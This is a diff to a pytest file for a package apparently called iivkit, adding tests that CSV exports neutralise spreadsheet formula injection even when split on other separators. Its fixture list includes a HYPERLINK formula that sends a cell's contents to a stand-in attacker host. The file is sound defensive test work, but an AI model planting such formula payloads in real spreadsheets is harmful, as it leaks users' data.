@@ -18,7 +18,7 @@ import pytest
 from openpyxl import load_workbook
 
 from iivkit import Contact, Finding, Insight, Interview, OpenQuestion, Organisation, Profile, Workbook
-from iivkit.exports import FORMULA_STARTS, neutralise
+from iivkit.exports import FORMULA_STARTS, neutralise, neutralise_csv
 
 HOSTILE = [
     '=HYPERLINK("https://evil.example/?leak="&A1, "click me")',
@@ -144,6 +144,18 @@ def test_no_csv_cell_starts_a_formula(hostile_workbook: Path, tmp_path: Path, cl
     assert offending == []
 
 
+@pytest.mark.parametrize("delimiter", [";", "\t", "|"], ids=["semicolon", "tab", "bar"])
+def test_no_csv_cell_starts_a_formula_when_split_on_another_separator(
+    hostile_workbook: Path, tmp_path: Path, cli, delimiter: str
+) -> None:
+    # Some spreadsheets guess the separator; split on the wrong one, quotes no longer hold cells.
+    out = tmp_path / "export.zip"
+    assert cli("export", hostile_workbook, "--format", "csv", "--out", out).exit_code == 0
+    cells = csv_cells(out, delimiter)
+    assert len(cells) > 100
+    assert [cell for cell in cells if dangerous(cell)] == []
+
+
 def test_every_csv_field_is_quoted(hostile_workbook: Path, tmp_path: Path, cli) -> None:
     # A separator inside a cell never starts a new cell, so what follows it stays text.
     out = tmp_path / "export.zip"
@@ -164,8 +176,14 @@ def test_csv_cells_keep_their_text_behind_one_quote(hostile_workbook: Path, tmp_
     for text in HOSTILE:
         assert text not in cells, text
         assert "'" + text in cells, text
-    for text in SEPARATED + HARMLESS:
+    for text in HARMLESS:
         assert text in cells, text
+    # Formula text after a separator or line break inside a cell gets its own quote, in case the
+    # file is split on that separator; everything else is kept.
+    for text in SEPARATED:
+        assert text not in cells, text
+        assert neutralise_csv(text) in cells, text
+    assert "one;'=1+1" in cells and "one\n'@SUM(1)" in cells and "one, '=1+1" in cells
     assert "'+27 82 555 0101" in cells
 
 
